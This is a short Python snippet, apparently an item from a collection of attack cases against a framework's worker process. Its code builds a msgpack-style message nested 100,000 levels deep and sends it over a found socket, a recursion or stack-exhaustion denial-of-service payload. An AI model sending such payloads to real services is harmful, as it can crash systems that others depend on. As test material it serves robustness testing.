"""attack: The worker's socket is found; an answer is nested a hundred thousand deep.
class: framework
aim: next
given: channel
"""

def center(x):
    data = b"\x81\xa5value" + b"\x91" * 100_000 + b"\xc0"
    send(struct.pack(">Q", len(data)) + data)
    return x
